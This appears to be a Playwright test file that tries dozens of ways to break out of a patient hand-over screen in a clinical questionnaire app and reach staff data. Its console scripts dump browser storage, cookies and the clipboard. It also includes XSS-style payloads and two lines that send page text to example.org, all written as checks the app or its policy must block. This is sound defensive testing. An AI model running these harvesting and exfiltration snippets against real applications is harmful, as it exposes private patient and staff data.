/**
 * Ways out of a hand-over, one a line. A new idea is a new line; a new screen of the app is tried by itself, since its
 * address is read from the source.
 */
import { globSync, readFileSync } from 'node:fs'
import type { BrowserContext, Page } from 'playwright-core'

/** What somebody has who holds the tablet. */
interface Hand {
  readonly context: BrowserContext
  readonly page: Page
  readonly address: string
  /** The path of the case that staff had open: known from a glance, say. */
  readonly casePath: string
}

export interface Escape {
  readonly name: string
  /** What a script got hold of, to be searched for what belongs to staff. */
  attempt(hand: Hand): Promise<unknown>
  /** The browser itself refuses it, and says so: that is the policy at work and not a breach by the app. */
  readonly refusedByPolicy?: true
}

/** Every address that the app knows, with the case's own path in place of `${at}` and something for each `:name`. */
export function addressesOf(casePath: string): readonly string[] {
  const source = globSync('src/**/*.tsx').map((file) => readFileSync(file, 'utf8'))
  const paths = source.flatMap((text) => [...text.matchAll(/<Route\s+path=(?:"([^"]+)"|\{`([^`]+)`\}|\{(at)\})/g)])
  const all = paths.map(([, plain, built, at]) => plain ?? built ?? (at && '$' + '{at}') ?? '')
  const tried = all.map((path) =>
    path
      .replace('$' + '{at}', casePath)
      .replaceAll(/\/:[a-z]+\??/g, '/sdq-s11-17')
      .replace('/*?', ''),
  )
  return [...new Set(tried)]
}

const placeholder = '/cases/this-one'

const byAddress: readonly Escape[] = addressesOf(placeholder).map((path) => ({
  name: `the address ${path}`,
  attempt: ({ page, address, casePath }) =>
    page.goto(address + path.replace(placeholder, casePath), { waitUntil: 'domcontentloaded' }),
}))

const odd = (name: string, path: string): Escape => ({
  name,
  attempt: ({ page, address }) => page.goto(address + path, { waitUntil: 'domcontentloaded' }),
})

/** Typed into the console of the developer tools; what it gives back is searched. */
const script = (name: string, typed: string): Escape => ({
  name,
  attempt: async ({ page }) => {
    const got = await page.evaluate(typed).catch(() => undefined)
    await page.waitForTimeout(150)
    return got
  },
})
const refused = (name: string, typed: string): Escape => ({ ...script(name, typed), refusedByPolicy: true })

const scriptThenReload = (name: string, typed: string): Escape => ({
  name,
  attempt: async ({ page }) => {
    await page.evaluate(typed).catch(() => undefined)
    await page.reload({ waitUntil: 'domcontentloaded' })
  },
})

const keys = (name: string, ...pressed: readonly string[]): Escape => ({
  name,
  attempt: async ({ page }) => {
    for (const key of pressed) await page.keyboard.press(key)
    await page.waitForTimeout(100)
  },
})

const does = (name: string, attempt: (hand: Hand) => Promise<unknown>): Escape => ({ name, attempt })

/** Reads every table of every database as text, keys as what they say of themselves. */
export const everyDatabase = `(async () => {
  const read = (request) => new Promise((done, failed) => {
    request.onsuccess = () => done(request.result)
    request.onerror = () => failed(request.error)
  })
  const told = []
  const keys = []
  const describe = (value) => {
    if (value instanceof CryptoKey) { keys.push(value.extractable); return '[key]' }
    if (value instanceof Uint8Array || value instanceof ArrayBuffer) return new TextDecoder().decode(value)
    if (Array.isArray(value)) return value.map(describe)
    if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([n, v]) => [n, describe(v)]))
    return value
  }
  for (const { name } of await indexedDB.databases()) {
    const db = await read(indexedDB.open(name))
    for (const store of db.objectStoreNames)
      told.push(JSON.stringify(describe(await read(db.transaction(store).objectStore(store).getAll()))))
    db.close()
  }
  return { text: told.join('\\n'), keys }
})()`

const everyPrivateFile = `(async () => {
  const told = []
  const walk = async (folder) => {
    for await (const [name, entry] of folder.entries())
      if (entry.kind === 'directory') await walk(entry)
      else told.push(name, await (await entry.getFile()).text())
  }
  await walk(await navigator.storage.getDirectory())
  return told.join('\\n')
})()`

const everyCachedFile = `(async () => {
  const told = []
  for (const name of await caches.keys()) {
    const cache = await caches.open(name)
    for (const request of await cache.keys()) told.push(request.url)
  }
  return told.join('\\n')
})()`

/** From the window and every element of the page, through whatever they hold: what a debugger sees without stopping. */
export const everythingReachable = `(() => {
  const seen = new Set()
  const texts = []
  const queue = [window, ...document.querySelectorAll('*')]
  while (queue.length > 0 && seen.size < 150000) {
    const at = queue.pop()
    if (at === null || (typeof at !== 'object' && typeof at !== 'function') || seen.has(at)) continue
    seen.add(at)
    // Plain values only: a getter of the browser's own would be asked in the wrong place, and holds nothing of the app's.
    for (const { value } of Object.values(Object.getOwnPropertyDescriptors(at)))
      if (typeof value === 'string') texts.push(value)
      else if (value && (typeof value === 'object' || typeof value === 'function')) queue.push(value)
    if (at instanceof Map || at instanceof Set) for (const part of at) queue.push(part)
  }
  return { objects: seen.size, text: texts.join('\\n') }
})()`

export const escapes: readonly Escape[] = [
  // First, while the browser has no other word of a worker to see to: a hundred reloads leave it minutes of them.
  scriptThenReload(
    'the service worker thrown out',
    'navigator.serviceWorker.getRegistrations().then((all) => Promise.all(all.map((one) => one.unregister())))',
  ),
  scriptThenReload(
    'the caches thrown out',
    'caches.keys().then((all) => Promise.all(all.map((one) => caches.delete(one))))',
  ),
  ...byAddress,
  odd('an address with a question mark', '/?place=unit&open=1'),
  odd('an address with a hash', '/#/unit/staff'),
  odd('an address that is not there', '/intern/rapport'),
  odd('the file behind the page', '/index.html'),
  odd('an address with dots in it', '/unit/../unit/staff'),
  odd('an address in coded letters', '/%75nit/%73taff'),
  odd('an address with two slashes', '//unit/staff'),
  odd('an address in capitals', '/UNIT/STAFF'),

  does('the back button', ({ page }) => page.goBack({ waitUntil: 'domcontentloaded' }).catch(() => null)),
  does('forward', ({ page }) => page.goForward({ waitUntil: 'domcontentloaded' }).catch(() => null)),
  script('back, ten times', '(async () => { for (let n = 0; n < 10; n++) { history.back(); await 0 } })()'),
  script('far back in the history', 'history.go(-5)'),
  script('as far back as there is', 'history.go(1 - history.length)'),
  script('the oldest entry by its key', 'navigation.traverseTo(navigation.entries()[0].key).finished.catch(() => 0)'),
  script(
    'what the history says of itself',
    'JSON.stringify(navigation.entries().map((one) => [one.url, one.getState()]))',
  ),
  does('a reload', ({ page }) => page.reload({ waitUntil: 'domcontentloaded' })),
  does('a reload past every cache', async ({ page, context }) => {
    const line = await context.newCDPSession(page)
    await line.send('Page.reload', { ignoreCache: true })
    await page.waitForTimeout(800)
  }),
  script('ten reloads in a row', 'for (let n = 0; n < 10; n++) location.reload()'),
  does('leaving for another page and coming back', async ({ page }) => {
    await page.goto('about:blank')
    await page.goBack({ waitUntil: 'domcontentloaded' })
  }),
  does('the collector’s own pages, and back', async ({ page, address }) => {
    await page.goto(`${address}/nationellt`)
    await page.goto(`${address}/unit/staff`, { waitUntil: 'domcontentloaded' })
  }),
  does('a tablet that falls asleep and wakes', async ({ page, context }) => {
    const line = await context.newCDPSession(page)
    for (const state of ['frozen', 'active'] as const) await line.send('Page.setWebLifecycleState', { state })
  }),
  does('another shape of the screen', async ({ page }) => {
    for (const [width, height] of [
      [390, 844],
      [1440, 900],
      [810, 1080],
    ] as const)
      await page.setViewportSize({ width, height })
  }),
  does('print', async ({ page }) => {
    await page.emulateMedia({ media: 'print' })
    const printed = await page.locator('body').innerText()
    await page.emulateMedia({ media: null })
    return printed
  }),
  does('everything selected and copied', async ({ page }) => {
    await page.keyboard.press('ControlOrMeta+A')
    return page.evaluate('String(getSelection())')
  }),
  does('a long press on everything', async ({ page }) => {
    await page.locator('body').click({ button: 'right', position: { x: 20, y: 300 } })
    await page.keyboard.press('Escape')
  }),
  does('a file dragged in', async ({ page }) => {
    await page.evaluate(`{
      const held = new DataTransfer()
      held.items.add(new File(['{"backup":"mattstock-backup-2"}'], 'unit.backup'))
      for (const kind of ['dragenter', 'dragover', 'drop'])
        document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: held, bubbles: true, cancelable: true }))
    }`)
  }),

  keys('Escape', 'Escape', 'Escape'),
  keys('F5', 'F5'),
  keys('F11 and F12', 'F11', 'F12'),
  keys('Alt and left arrow', 'Alt+ArrowLeft'),
  keys('Alt and right arrow, Alt and Home', 'Alt+ArrowRight', 'Alt+Home'),
  keys('the address bar by keys', 'ControlOrMeta+L', 'Escape'),
  keys('the source of the page', 'ControlOrMeta+U'),
  keys('find in the page', 'ControlOrMeta+F', 'Escape'),
  keys('save the page', 'ControlOrMeta+S', 'Escape'),
  keys('undo and redo', 'ControlOrMeta+Z', 'ControlOrMeta+Shift+Z'),
  keys('backspace', 'Backspace'),
  keys('Tab through the whole screen', ...Array<string>(12).fill('Tab'), 'Escape'),

  script(
    'a moved address without loading',
    "history.pushState(null, '', '/unit/staff'); dispatchEvent(new PopStateEvent('popstate'))",
  ),
  script(
    'an address put in the place of this one',
    "history.replaceState(null, '', '/unit/log'); dispatchEvent(new PopStateEvent('popstate'))",
  ),
  script('a hash that is changed', "location.hash = '/unit/backup'; dispatchEvent(new HashChangeEvent('hashchange'))"),
  script(
    'a page that comes out of the cache',
    "dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }))",
  ),
  {
    name: 'a form that is sent to the unit',
    attempt: async ({ page, address }) => {
      await page.evaluate(
        "const f = document.createElement('form'); f.action = '/unit/staff'; document.body.append(f); f.submit()",
      )
      await page.waitForTimeout(300)
      // The test's own driver waits for ever for a form that the policy stopped; a person would go on.
      await page.goto(address, { waitUntil: 'domcontentloaded' })
    },
    refusedByPolicy: true,
  },
  script(
    'messages to the tabs of the app',
    `
    const line = new BroadcastChannel('mattstock')
    for (const said of [{ handedOver: 'x' }, { entered: 'x' }, { erased: 'x' }, { written: 'x' }, { open: true }, 'unlock']) line.postMessage(said)`,
  ),
  script(
    'messages to the window',
    "for (const said of ['open', { is: 'open' }, { takenBack: 'unit' }]) window.postMessage(said, '*')",
  ),
  script('a message to the service worker', "navigator.serviceWorker.controller?.postMessage('take-over')"),
  script(
    'what the service worker misses',
    `new Promise((done) => {
    const { port1, port2 } = new MessageChannel()
    port1.onmessage = ({ data }) => done(JSON.stringify(data))
    navigator.serviceWorker.controller?.postMessage('missing?', [port2])
    setTimeout(done, 500)
  })`,
  ),
  script('the staff page fetched as a file', "fetch('/unit/staff').then((answer) => answer.text())"),
  script(
    'what the collector says of the unit',
    "Promise.all(['/healthz', '/v1/periods', '/admin'].map((path) => fetch(path).then((answer) => answer.text()))).then(String)",
  ),
  script('every database', `${everyDatabase}.then((found) => found.text)`),
  script('every private file', everyPrivateFile),
  script('every cached file', everyCachedFile),
  script(
    'what the tab remembers',
    'JSON.stringify({ ...localStorage, ...sessionStorage, cookie: document.cookie, name: window.name })',
  ),
  script('what the browser timed', 'JSON.stringify(performance.getEntries())'),
  script('everything that can be reached from the page', `${everythingReachable}.text`),
  script('the clipboard', "navigator.clipboard.readText().catch(() => '')"),
  script('the way in from whoever opened this', 'String(window.opener && window.opener.document.body.innerText)'),
  refused('a script in the address', "location.href = 'javascript:document.body.remove()'"),
  refused(
    'a script in an element',
    "document.body.append(Object.assign(document.createElement('script'), { text: 'document.body.remove()' }))",
  ),
  refused(
    'a script in an image that fails',
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=document.body.remove()>')",
  ),
  refused(
    'a staff page in a frame',
    "const frame = document.createElement('iframe'); frame.src = '/unit/staff'; document.body.append(frame); setTimeout(() => frame.remove(), 100)",
  ),
  refused('a worker of one’s own', "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))"),
  refused(
    'a picture that tells another server',
    "new Image().src = 'https://example.org/?' + encodeURIComponent(document.body.innerText)",
  ),
  refused(
    'a call that tells another server',
    "fetch('https://example.org/', { method: 'POST', body: document.body.innerText, mode: 'no-cors' }).catch(() => 0)",
  ),
  scriptThenReload('an emptied memory of the tab', 'sessionStorage.clear(); localStorage.clear()'),
  scriptThenReload('another unit chosen by hand', "sessionStorage.setItem('mattstock-place', 'new-practice')"),
  does('another language chosen by hand', async ({ page }) => {
    await page.evaluate("localStorage.setItem('mattstock-language', 'en')")
    await page.reload({ waitUntil: 'domcontentloaded' })
    await page.evaluate("localStorage.removeItem('mattstock-language')")
  }),
  does('no network', async ({ page, context }) => {
    await page.waitForTimeout(1500)
    await context.setOffline(true)
    await page.reload({ waitUntil: 'domcontentloaded' }).catch(() => null)
    await context.setOffline(false)
  }),

  does('the way back without a passphrase', async ({ page }) => {
    await page.getByRole('button', { name: 'För personal: ta tillbaka plattan' }).click()
    await page.getByRole('button', { name: 'Lås upp' }).click()
    const said = await page.locator('body').innerText()
    await page.getByRole('button', { name: 'Tillbaka till formuläret' }).click()
    return said
  }),
  does('reload on the way back', async ({ page }) => {
    await page.getByRole('button', { name: 'För personal: ta tillbaka plattan' }).click()
    await page.reload({ waitUntil: 'domcontentloaded' })
  }),
  does('the way back, and then an address', async ({ page, address }) => {
    await page.getByRole('button', { name: 'För personal: ta tillbaka plattan' }).click()
    await page.goto(`${address}/unit/staff`, { waitUntil: 'domcontentloaded' })
  }),
  does('what happens to my answers, and out by its links', async ({ page }) => {
    await page.getByRole('button', { name: 'Vad händer med mina svar?' }).click()
    const said = await page.getByRole('dialog').innerText()
    const links = await page.getByRole('dialog').getByRole('link').count()
    await page.getByRole('dialog').getByRole('button', { name: 'Stäng' }).click()
    return `${said}${links > 0 ? 'ÖVA-: there is a link out' : ''}`
  }),
  does('help, and out by its numbers', async ({ page }) => {
    await page.getByRole('button', { name: 'Hjälp', exact: true }).click()
    const links = await page.getByRole('dialog').getByRole('link').count()
    await page.getByRole('dialog').getByRole('button', { name: 'Stäng' }).click()
    return links > 0 ? 'ÖVA-: there is a link out' : ''
  }),
]
